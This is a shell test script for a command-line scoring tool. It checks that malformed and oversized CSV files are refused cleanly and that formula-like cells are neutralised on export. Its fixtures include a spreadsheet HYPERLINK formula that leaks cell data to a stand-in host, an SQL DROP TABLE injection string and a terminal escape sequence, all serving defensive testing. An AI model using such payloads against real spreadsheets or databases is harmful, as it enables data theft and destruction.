#!/bin/sh
# hostile.sh - malformed model and import files (tests/fixtures/bad/ and
# huge ones generated here) are refused with exit status 1 and a
# "FILE:LINE:" message, and leave the database byte-identical; a valid
# import whose cells look like formulas or terminal escapes is stored
# verbatim and neutralised in the CSV export.
. tests/lib/cli.sh
BAD=$FIXTURES/bad
DB=$SAMMTUI_DB
# Hundreds of checks: repeat the failures at the end, where they are seen.
not_ok() { fail=$((fail + 1)); echo "not ok - $1"; echo "$1" >> "$T/failures"; }

run init;                 expect_rc 0 "init"
run period new Q1 --date 2026-09-30; expect_rc 0 "period Q1"
run score Q1 G-SM-1-A.1 half --note "first note"; expect_rc 0 "a score to protect"
run score Q1 D-TA-1-B most; expect_rc 0 "an activity's scores to protect"

# The reference copy of the database, checkpointed so that everything is
# in the main file.
checkpoint() { sqlite3 "$DB" 'PRAGMA wal_checkpoint(TRUNCATE)' > /dev/null 2>&1; }
checkpoint
cp "$DB" "$T/ref.db"

# same_db DESC: the database file is byte-identical to the reference.
same_db() {
	checkpoint
	if cmp -s "$DB" "$T/ref.db"; then ok "$1"; else
		not_ok "$1"; sqlite3 "$T/ref.db" .dump > "$T/a.dump"; sqlite3 "$DB" .dump > "$T/b.dump"
		diff "$T/a.dump" "$T/b.dump" | head -n 10 | sed 's/^/#   /'
		cp "$T/ref.db" "$DB"; rm -f "$DB-wal" "$DB-shm"
	fi
}

# refused FILE LINE DESC ARGS...: sammtui ARGS exits 1 within $LIMIT
# seconds, stderr names FILE:LINE: (any line when LINE is '*'), and the
# database is unchanged.  A hostile file must not hang the program either:
# the limit is generous, each of these should take well under a second.
LIMIT=${HOSTILE_LIMIT:-10}
refused() {
	file=$1 line=$2 desc=$3; shift 3
	timeout -s KILL "$LIMIT" "$BIN" "$@" > "$T/out" 2> "$T/err"; rc=$?
	[ "$rc" -eq 137 ] && echo "# $desc: still running after $LIMIT s, killed"
	expect_rc 1 "$desc: exit 1"
	if [ "$line" = '*' ]; then pat="$file:[0-9][0-9]*: "; else pat="$file:$line: "; fi
	if head -c 4096 "$T/err" | grep -q -- "$pat"; then ok "$desc: says $file:${line}:"; else
		not_ok "$desc: no '$pat' message"; head -c 600 "$T/err" | sed 's/^/#   err: /'; fi
	# no raw control byte from the file reaches the terminal
	ctl=$(head -c 65536 "$T/err" | tr -d '\n' | LC_ALL=C tr -d '\040-\176\200-\377' | wc -c)
	check "[ $ctl -eq 0 ]" "$desc: message holds no control bytes"
	same_db "$desc: database unchanged"
}

# ---- The committed fixtures --------------------------------------------------
n_model=0 n_import=0
for f in "$BAD"/model-*.csv; do
	n_model=$((n_model + 1))
	refused "$f" '*' "$(basename "$f")" model load "$f"
done
for f in "$BAD"/import-*.csv; do
	n_import=$((n_import + 1))
	refused "$f" '*' "$(basename "$f")" import Q1 "$f"
done
check '[ $((n_model + n_import)) -ge 40 ] && [ $n_model -ge 20 ] && [ $n_import -ge 20 ]' \
	"at least 40 hostile fixtures ($n_model model, $n_import import)"

# Line numbers stay right across mixed LF / CRLF line ends.
refused "$BAD/model-mixed-line-ends.csv" 5 "mixed line ends (model)" model load "$BAD/model-mixed-line-ends.csv"
refused "$BAD/import-mixed-line-ends.csv" 4 "mixed line ends (import)" import Q1 "$BAD/import-mixed-line-ends.csv"
# Old Mac spreadsheets end lines with CR alone: still one line each.
refused "$BAD/model-cr-only-line-ends.csv" 5 "CR line ends (model)" model load "$BAD/model-cr-only-line-ends.csv"
refused "$BAD/import-cr-only-line-ends.csv" 4 "CR line ends (import)" import Q1 "$BAD/import-cr-only-line-ends.csv"
refused "$BAD/model-level-4.csv" 4 "level 4 on line 4" model load "$BAD/model-level-4.csv"
refused "$BAD/import-item-twice.csv" 5 "an item set twice on line 5" import Q1 "$BAD/import-item-twice.csv"

# ---- Huge files, generated ----------------------------------------------------
G=$T/gen
mkdir -p "$G"
MH="id,function,practice_code,practice,stream,stream_name,level,activity,question,criterion"
MR="G-SM-1-A.1,Governance,SM,Strategy & Metrics,A,Create and Promote"
big() { head -c 10485760 /dev/zero | tr '\0' A; }   # 10 MB of A
cols() { awk -v n="$1" -v p="$2" 'BEGIN { for (i = 1; i <= n; i++) printf ",%s%d", p, i }'; }
blank() { head -c "$1" /dev/zero | tr '\0' '\n'; }

{ echo "$MH"; printf '%s,9,Act,Q?,' "$MR"; big; echo; } > "$G/model-10mb-field.csv"
{ echo "$MH"; printf '%s,1,Act,Q?,"' "$MR"; big; echo; } > "$G/model-10mb-unterminated.csv"
{ printf '%s' "$MH"; cols 100000 x; echo; printf '%s,1,Act,Q?,Crit' "$MR"; cols 99999 v; echo; } \
	> "$G/model-100k-columns.csv"
{ printf '%s' "$MH"; cols 100000 x; printf ',level\n'; } > "$G/model-100k-columns-dup.csv"
{ echo "$MH"; blank 1000000; printf '%s,4,Act,Q?,Crit\n' "$MR"; } > "$G/model-1m-empty-lines.csv"
{ echo "$MH"; blank 1000000; } > "$G/model-1m-empty-lines-only.csv"

{ echo "id,score,note"; printf 'G-SM-1-A.1,lots,'; big; echo; } > "$G/import-10mb-field.csv"
{ echo "id,score,note"; printf 'G-SM-1-A.1,half,"'; big; echo; } > "$G/import-10mb-unterminated.csv"
{ printf 'id,score,note'; cols 100000 x; echo; } > "$G/import-100k-columns.csv"
{ echo "id,score,note"; printf 'G-SM-1-A.1,half,n'; cols 100000 v; echo; } > "$G/import-100k-fields.csv"
{ echo "id,score,note"; blank 1000000; echo "G-SM-1-A.1,lots,"; } > "$G/import-1m-empty-lines.csv"

refused "$G/model-10mb-field.csv" 2 "10 MB field (model)" model load "$G/model-10mb-field.csv"
refused "$G/model-10mb-unterminated.csv" 2 "10 MB unterminated field (model)" model load "$G/model-10mb-unterminated.csv"
refused "$G/model-100k-columns.csv" 2 "100,000 columns (model)" model load "$G/model-100k-columns.csv"
refused "$G/model-100k-columns-dup.csv" 1 "100,000 columns and a repeated one (model)" model load "$G/model-100k-columns-dup.csv"
refused "$G/model-1m-empty-lines.csv" 1000002 "a million empty lines (model)" model load "$G/model-1m-empty-lines.csv"
refused "$G/model-1m-empty-lines-only.csv" '*' "a million empty lines and no item (model)" model load "$G/model-1m-empty-lines-only.csv"
refused "$G/import-10mb-field.csv" 2 "10 MB field (import)" import Q1 "$G/import-10mb-field.csv"
refused "$G/import-10mb-unterminated.csv" 2 "10 MB unterminated field (import)" import Q1 "$G/import-10mb-unterminated.csv"
refused "$G/import-100k-columns.csv" 1 "100,000 columns (import)" import Q1 "$G/import-100k-columns.csv"
refused "$G/import-100k-fields.csv" 2 "100,000 fields in a row (import)" import Q1 "$G/import-100k-fields.csv"
refused "$G/import-1m-empty-lines.csv" 1000002 "a million empty lines (import)" import Q1 "$G/import-1m-empty-lines.csv"
check '[ $(wc -c < "$T/err") -lt 4096 ]' "messages stay short whatever the file"
rm -rf "$G"

# ---- Formula- and escape-looking cells are data --------------------------------
ESC=$(printf '\033')
{
	echo "id,score,note"
	echo 'G-SM-1-A.2,some,"=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"'
	echo 'G-SM-1-A.3,half,+1+1'
	echo 'G-SM-1-A.4,most,-2+3'
	echo 'G-SM-2-A.1,no,@SUM(A1:A9)'
	printf 'G-SM-2-A.2,some,"%s[31mred%s[0m"\n' "$ESC" "$ESC"
	printf 'G-SM-2-A.3,na,"\tcmd"\n'
	echo "G-SM-3-A.1,half,'); DROP TABLE score; --"
} > "$T/formulas.csv"
run import Q1 "$T/formulas.csv"; expect_rc 0 "formula-looking notes import"
stored() { sqlite3 "$DB" "SELECT note FROM score s JOIN period p ON p.id = s.period_id WHERE p.name = 'Q1' AND item = '$1'"; }
check '[ "$(stored G-SM-1-A.2)" = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")" ]' "=HYPERLINK note stored verbatim"
check '[ "$(stored G-SM-1-A.3)" = "+1+1" ]' "+ note stored verbatim"
check '[ "$(stored G-SM-2-A.2)" = "${ESC}[31mred${ESC}[0m" ]' "escape-sequence note stored verbatim"
check '[ "$(stored G-SM-2-A.3)" = "$(printf "\tcmd")" ]' "TAB-led note stored verbatim"
check "[ \"\$(stored G-SM-3-A.1)\" = \"'); DROP TABLE score; --\" ]" "SQL-looking note stored verbatim"
run export Q1; expect_rc 0 "export"
expect_out_has ",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\"," "export neutralises =HYPERLINK"
expect_out_has ",'+1+1," "export neutralises +"
expect_out_has ",'-2+3," "export neutralises -"
expect_out_has ",'@SUM(A1:A9)," "export neutralises @"
expect_out_has "'	cmd" "export neutralises a leading TAB"
check '! grep -q "^=\|,=\|,+1\|,-2\|,@" "$T/out"' "no cell of the export starts with = + - @"
[ -s "$T/failures" ] && sed 's/^/# failed: /' "$T/failures"
done_testing
